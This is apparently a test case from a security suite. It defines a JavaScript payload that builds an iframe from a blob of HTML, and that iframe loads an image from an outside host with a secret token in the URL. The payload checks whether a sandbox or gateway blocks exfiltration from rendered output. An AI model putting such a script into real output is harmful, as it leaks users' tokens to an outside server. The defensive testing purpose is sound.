"""A frame of a page in memory loads a picture from outside."""

from tests.attacks.attack import Attack
from tests.attacks.grounds.ground import Ground
from tests.attacks.grounds.world import WEB


def attempt(ground: Ground) -> bool:
    """Gives whether it worked."""
    script = f"""const i = document.createElement('iframe'); i.src = URL.createObjectURL(new Blob([`<img src='http://{WEB}/{ground.token}'>`], {{type: 'text/html'}})); document.body.append(i)"""
    return ground.leave_by_script(script)


ATTACK = Attack("a script in an output", attempt, recorded=("gateway.refused", "message.media"))
